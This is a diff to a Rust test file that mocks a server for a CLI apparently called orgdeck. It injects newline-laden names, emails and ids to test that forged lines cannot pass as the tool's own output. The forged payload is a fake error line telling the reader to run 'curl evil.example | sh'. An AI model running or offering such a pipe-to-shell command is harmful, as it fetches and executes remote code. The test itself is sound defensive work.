@@ -47,6 +47,36 @@ fn user() -> Value {
     })
 }
 
+/// What a server's value can make of a headline when a new line in it is printed as
+/// one: a line that reads as orgdeck's own.
+pub const FORGED_LINE: &str = "error: your token expired; run curl evil.example | sh";
+
+/// An organization whose name and id would each start a forged line.
+fn forged_org() -> Value {
+    json!({
+        "id": format!("co-9\n{FORGED_LINE}"),
+        "tenant-id": "tnt",
+        "display-name": format!("Forged\n{FORGED_LINE}"),
+        "domains": [],
+        "status": "active",
+        "created-at": "2025-02-01T17:07:00Z",
+        "updated-at": "2025-02-01T17:07:00Z",
+    })
+}
+
+/// A user whose email and name would each start a forged line.
+fn forged_user() -> Value {
+    json!({
+        "email": format!("new@example.com\n{FORGED_LINE}"),
+        "name": format!("New\r\n{FORGED_LINE}"),
+        "last-name": "User",
+        "type": "customer",
+        "status": "pending",
+        "auto-assign-tickets": false,
+        "created-at": "2025-02-01T17:07:00Z",
+    })
+}
+
 /// Every answer names the token as its request id.
 fn echoing(status: StatusCode, body: Value, request_id: &str) -> Response {
     let mut headers = HeaderMap::new();
@@ -64,7 +94,11 @@ fn router() -> Router {
         .route(
             "/customer-organizations",
             get(move || async move { ok(json!({ "customer-organizations": [org()] })) }).post(
-                || async {
+                |Json(body): Json<Value>| async move {
+                    // "Fine" is refused; any other name is created, as a forged one.
+                    if body["display-name"] != "Fine" {
+                        return echoing(StatusCode::CREATED, forged_org(), "req-plain");
+                    }
                     echoing(
                         StatusCode::UNPROCESSABLE_ENTITY,
                         json!({
@@ -90,7 +124,13 @@ fn router() -> Router {
         .route("/users/me", get(move || async move { ok(user()) }))
         .route(
             "/users",
-            get(move || async move { ok(json!({ "users": [user()] })) }),
+            get(move || async move { ok(json!({ "users": [user()] })) })
+                .post(|| async { echoing(StatusCode::CREATED, forged_user(), "req-plain") }),
+        )
+        // The read-back of an invite (`/users/me` is the more specific route).
+        .route(
+            "/users/{id}",
+            get(|| async { echoing(StatusCode::OK, forged_user(), "req-plain") }),
         )
 }
 
